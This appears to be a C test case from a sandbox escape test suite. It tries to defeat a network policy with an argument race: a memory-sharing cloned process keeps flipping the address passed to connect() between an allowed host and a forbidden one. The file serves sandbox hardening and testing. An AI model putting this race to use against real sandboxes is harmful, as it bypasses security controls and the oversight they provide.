// escape: a process that shares all memory, and is no thread of the caller, changes the address
// group: argument races
// policy: network
// attempts: 20000
#include "escape.h"

static void attack(void) {
  static struct sockaddr_in address, first, second;
  first = address = the_friend();
  second = stranger();
  static struct flip flip = {&address.sin_addr, &first.sin_addr, &second.sin_addr, 4};
  clone_vm(flip_for_ever_in_clone, &flip, 0);
  while (more()) {
    const int fd = tcp(AF_INET);
    connect(fd, ADDRESS(address));
    close(fd);
  }
}
